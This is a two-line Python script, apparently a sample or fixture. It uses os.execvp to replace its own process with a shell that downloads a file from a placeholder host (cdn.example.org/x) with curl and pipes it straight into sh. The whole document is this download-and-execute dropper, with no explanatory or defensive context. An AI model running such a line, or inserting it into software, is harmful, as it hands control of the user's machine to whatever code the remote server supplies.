import os
os.execvp("sh", ["sh", "-c", "curl -s https://cdn.example.org/x | sh"])
